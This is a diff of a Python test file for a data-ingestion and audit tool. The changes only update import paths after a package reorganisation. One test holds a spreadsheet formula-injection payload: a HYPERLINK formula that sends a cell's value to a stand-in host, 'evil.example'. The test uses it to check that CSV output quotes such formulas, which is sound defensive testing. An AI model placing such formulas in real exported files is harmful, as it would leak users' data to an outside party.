@@ -97,8 +97,8 @@ def test_links_folders_fifos_named_like_extracts_are_file_findings(tmp_path: Pat
     import logging
     import os
 
-    from bcf.intake import ingest_source
-    from bcf.sources import list_source
+    from bcf.ingest.source_run import ingest_source
+    from bcf.ingest.sources import list_source
 
     src = tmp_path / "src"
     src.mkdir()
@@ -212,7 +212,7 @@ def test_why_csv_quotes_formula_payloads_and_keeps_numbers() -> None:
     import csv
     import io
 
-    from bcf.why import Answer, render
+    from bcf.audit.why import Answer, render
 
     answers = [
         Answer("spend_x.csv", 2, '=HYPERLINK("http://evil.example/?"&A1,"click")', "spend", "counted",
@@ -229,16 +229,16 @@ def test_why_csv_quotes_formula_payloads_and_keeps_numbers() -> None:
 
 # ---- e. Readers take the run lock (or step aside): a run starting meanwhile waits, never fails --------------------
 
-HOLD = ("import sys\nfrom pathlib import Path\nfrom bcf.runlock import data_dir_lock\n"
+HOLD = ("import sys\nfrom pathlib import Path\nfrom core.runlock import data_dir_lock\n"
         "with data_dir_lock(Path(sys.argv[1]), 'a scheduled run'):\n"
         "    print('held', flush=True)\n    sys.stdin.read()\n")
 
 
 def test_briefing_and_why_never_make_a_run_fail(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
-    from bcf import why
+    from bcf.audit import why
     from bcf.cli import main
-    from bcf.runlock import holds
+    from core.runlock import holds
     from tests.fixtures import HWB, write_df_fixture
 
     monkeypatch.setenv("BCF_ORCHESTRATION", "local")
@@ -296,7 +296,7 @@ def test_a_data_dir_refuses_another_key_unless_told_to_repseudonymise(
     import duckdb
 
     from bcf.cli import main
-    from bcf.keyprint import FINGERPRINT_FILE
+    from bcf.ingest.keyprint import FINGERPRINT_FILE
     from tests.fixtures import HWB, write_df_fixture
 
     first, second = "first-key-0123456789abcdefghijklmnop", "second-key-0123456789abcdefghijklmno"
@@ -361,8 +361,9 @@ def test_impossible_arguments_are_one_line_and_exit_2(args: list[str], tmp_path:
 
 def test_a_killed_worker_is_one_line(small_extracts: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
-    from bcf import intake, worker
     from bcf.cli import main
+    from bcf.ingest import source_run as intake
+    from bcf.ingest import worker
 
     real_submit = worker.Preparer.submit
 
@@ -382,7 +383,7 @@ def test_a_killed_worker_is_one_line(small_extracts: Path, tmp_path: Path, monke
 def test_a_csv_rejected_whole_keeps_its_rows_as_received_and_rejected(tmp_path: Path) -> None:
     import duckdb
 
-    from bcf.intake import ingest_source
+    from bcf.ingest.source_run import ingest_source
 
     src = tmp_path / "src"
     src.mkdir()
@@ -401,7 +402,7 @@ def test_a_csv_rejected_whole_keeps_its_rows_as_received_and_rejected(tmp_path: 
 
 
 def test_nhs_number_like_s3_keys_are_tokens_in_what_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
-    from bcf import sources
+    from bcf.ingest import sources
 
     class Pages:
         def paginate(self, **_: str) -> list[dict[str, list[dict[str, object]]]]:
@@ -422,7 +423,7 @@ def test_nhs_number_like_s3_keys_are_tokens_in_what_is_recorded(monkeypatch: pyt
 
 
 def test_a_sheet_rejected_for_its_header_keeps_its_rows(tmp_path: Path) -> None:
-    from bcf.intake import ingest_source
+    from bcf.ingest.source_run import ingest_source
 
     src = tmp_path / "src"
     src.mkdir()
